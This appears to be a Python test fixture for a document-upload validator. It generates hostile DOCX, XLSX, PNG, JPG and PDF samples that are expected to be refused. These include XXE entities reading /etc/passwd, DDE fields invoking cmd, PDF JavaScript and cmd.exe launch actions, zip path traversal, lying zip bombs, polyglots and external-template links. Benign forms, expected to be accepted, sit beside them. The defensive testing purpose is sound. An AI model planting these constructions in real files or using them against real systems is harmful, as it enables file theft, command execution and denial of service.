"""Files that would harm whoever opens them, by what is wrong with them: uploaded as a form that residents download."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from docx import Document as WordDocument
from openpyxl import Workbook

_RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def word() -> bytes:
    """One that is as it should be."""
    written = io.BytesIO()
    document = WordDocument()
    document.add_paragraph("姓名：")
    document.save(written)
    return written.getvalue()


def excel() -> bytes:
    written = io.BytesIO()
    Workbook().save(written)
    return written.getvalue()


def changed(package: bytes, name: str, content: str | bytes) -> bytes:
    """A package with one part instead of what it had, or beside it."""
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as old, zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            if part.filename != name:
                new.writestr(part, old.read(part))
        new.writestr(name, content)
    return written.getvalue()


def related(package: bytes, name: str, kind: str, target: str) -> bytes:
    """A package of which a part leads to something outside."""
    with zipfile.ZipFile(io.BytesIO(package)) as old:
        before = old.read(name).decode() if name in old.namelist() else _RELATIONS.format("")
    added = f'<Relationship Id="r99" Type="{_KIND}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return changed(package, name, before.replace("</Relationships>", added))


def twice(package: bytes, name: str) -> bytes:
    written = io.BytesIO(package)
    with zipfile.ZipFile(written, "a") as opened:
        opened.writestr(name.upper(), b"<x/>")
    return written.getvalue()


def lying() -> bytes:
    """A package of which a part says that it is short, and unpacks to 300 MB."""
    made = bytearray(changed(word(), "word/big.xml", b" " * 300_000_000))
    size = struct.pack("<I", 300_000_000)
    while (at := made.find(size)) >= 0:
        made[at : at + 4] = struct.pack("<I", 100)
    return bytes(made)


def png(*, width: int = 1, behind: bytes = b"") -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, 1, 8, 0, 0, 0, 0)
    body = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body + behind


def jpg(*, comment: bytes = b"", behind: bytes = b"") -> bytes:
    said = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment if comment else b""
    return b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0" + said + b"\xff\xd9" + behind


def pdf(*objects: bytes, behind: bytes = b"") -> bytes:
    """A file of these objects, the first its root."""
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, each in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n" % number + each + b"\nendobj\n"
    table = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    made += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table)
    return bytes(made) + behind


def with_page(more: bytes = b"", root: bytes = b"", *others: bytes) -> bytes:
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R" + root + b">>", _PAGES,
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]" + more + b">>", *others
    )  # fmt: skip


def packed_script() -> bytes:
    """A script in an annotation that stands in a compressed object stream, where no search of the file finds it."""
    annotation = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/JavaScript/JS(app.alert\\(1\\))>>>>"
    packed = zlib.compress(b"4 0 " + annotation)
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>", _PAGES, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[4 0 R]>>",
    ]  # fmt: skip
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, each in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n" % number + each + b"\nendobj\n"
    places.append(len(made))
    made += b"5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    made += packed + b"\nendstream\nendobj\n"
    table = len(made)
    rows = [(0, 0, 65535), *((1, place, 0) for place in places[:3]), (2, 5, 0), (1, places[3], 0), (1, table, 0)]
    entries = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
    made += b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n" % len(entries)
    made += entries + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table
    return bytes(made)


def _document(text: str) -> str:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return f'<w:document xmlns:w="{space}"><w:body><w:p><w:r>{text}</w:r></w:p></w:body></w:document>'


_DOCUMENT, _WORD_LINKS, _BOOK_LINKS = "word/document.xml", "word/_rels/document.xml.rels", "xl/_rels/workbook.xml.rels"
_ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'

HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "entity in the document": ("表.docx", lambda: changed(word(), _DOCUMENT, _ENTITY + _document("&e;"))),
    "entity in UTF-16": ("表.docx", lambda: changed(word(), _DOCUMENT, (_ENTITY + _document("&e;")).encode("utf-16"))),
    "entity in a sheet": ("表.xlsx", lambda: changed(excel(), "xl/worksheets/sheet1.xml", _ENTITY + "<worksheet/>")),
    "entity in the links": ("表.xlsx", lambda: changed(excel(), _BOOK_LINKS, _ENTITY + _RELATIONS.format(""))),
    "template from elsewhere": ("表.docx", lambda: related(word(), "word/_rels/settings.xml.rels", "attachedTemplate", "http://x/t.dotm")),
    "picture from elsewhere": ("表.docx", lambda: related(word(), _WORD_LINKS, "image", "http://x/1.png")),
    "frame from elsewhere": ("表.docx", lambda: related(word(), _WORD_LINKS, "frame", "http://x/")),
    "link to a file": ("表.docx", lambda: related(word(), _WORD_LINKS, "hyperlink", "file:///c:/x.exe")),
    "link to a script": ("表.docx", lambda: related(word(), _WORD_LINKS, "hyperlink", "javascript:alert(1)")),
    "workbook from elsewhere": ("表.xlsx", lambda: related(excel(), _BOOK_LINKS, "externalLinkPath", "http://x/b.xlsx")),
    "chunk of a page": ("表.docx", lambda: related(word(), _WORD_LINKS, "aFChunk", "page.html")),
    "command in a field": ("表.docx", lambda: changed(word(), _DOCUMENT, _document("<w:instrText>DDEAUTO c:\\\\cmd</w:instrText>"))),
    "command in a link": ("表.xlsx", lambda: changed(excel(), "xl/links.xml", "<ddeLink ddeService='cmd'/>")),
    "part twice": ("表.docx", lambda: twice(word(), _DOCUMENT)),
    "part outside": ("表.docx", lambda: changed(word(), "../../../tmp/slipped.xml", "<x/>")),
    "part at the root": ("表.docx", lambda: changed(word(), "/tmp/slipped.xml", "<x/>")),
    "part of another system": ("表.docx", lambda: changed(word(), "..\\..\\slipped.xml", "<x/>")),
    "macros": ("表.docx", lambda: changed(word(), "word/vbaProject.bin", b"x")),
    "bomb": ("表.docx", lambda: changed(word(), "word/big.xml", b" " * 210_000_000)),
    "bomb that lies": ("表.docx", lying),
    "many parts": ("表.docx", lambda: many(word())),
    "package behind a picture": ("图.png", lambda: png(behind=word())),
    "page behind a picture": ("图.png", lambda: png(behind=b"<script>alert(1)</script>")),
    "picture without end": ("图.png", lambda: png()[:-12]),
    "picture that unfolds": ("图.png", lambda: png(width=2_000_000_000)),
    "page in a comment": ("图.jpg", lambda: jpg(comment=b"<script>alert(1)</script>")),
    "package behind a photo": ("图.jpg", lambda: jpg(behind=word())),
    "page that says it is a photo": ("图.jpg", lambda: b"<html><script>alert(1)</script>"),
    "drawing that says it is a picture": ("图.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "drawing": ("图.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "program": ("表.pdf", lambda: b"MZ" + b"\0" * 200),
    "package behind a PDF": ("表.pdf", lambda: with_page() + word()),
    "script": ("表.pdf", lambda: with_page(b"", b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>")),
    "script in escapes": ("表.pdf", lambda: with_page(b"", b"/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>")),
    "script on a page": ("表.pdf", lambda: with_page(b"/AA<</O<</S/JavaScript/J#53(1)>>>>")),
    "script that is packed": ("表.pdf", packed_script),
    "program to start": ("表.pdf", lambda: with_page(b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>]")),
    "file inside": ("表.pdf", lambda: with_page(b"", b"/Names<</EmbeddedFiles<</Names[]>>>>")),
    "form that is sent": ("表.pdf", lambda: with_page(b"/Annots[<</Subtype/Widget/Rect[0 0 9 9]/A<</S/SubmitForm/F(http://x)>>>>]")),
    "pages in a ring": ("表.pdf", lambda: pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 9/Parent 2 0 R>>")),
}  # fmt: skip
"""What the file calls itself, and what makes it; each is refused."""


def many(package: bytes) -> bytes:
    written = io.BytesIO(package)
    with zipfile.ZipFile(written, "a") as opened:
        for number in range(5001):
            opened.writestr(f"x/{number}", b"")
    return written.getvalue()


USUAL: dict[str, tuple[str, Callable[[], bytes]]] = {
    "document": ("表.docx", word),
    "workbook": ("表.xlsx", excel),
    "document with links": ("表.docx", lambda: related(word(), _WORD_LINKS, "hyperlink", "https://www.gov.cn/")),
    "document with a date field": ("表.docx", lambda: changed(word(), _DOCUMENT, _document("<w:instrText>DATE \\@ yyyy</w:instrText>"))),
    "picture": ("图.png", png),
    "photo": ("图.jpg", jpg),
    "PDF": ("表.pdf", with_page),
    "PDF that opens at a page": ("表.pdf", lambda: with_page(b"", b"/OpenAction[3 0 R /Fit]")),
    "PDF with an address": ("表.pdf", lambda: with_page(b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://www.gov.cn)>>>>]")),
}  # fmt: skip
"""Forms as offices have them; each is taken."""
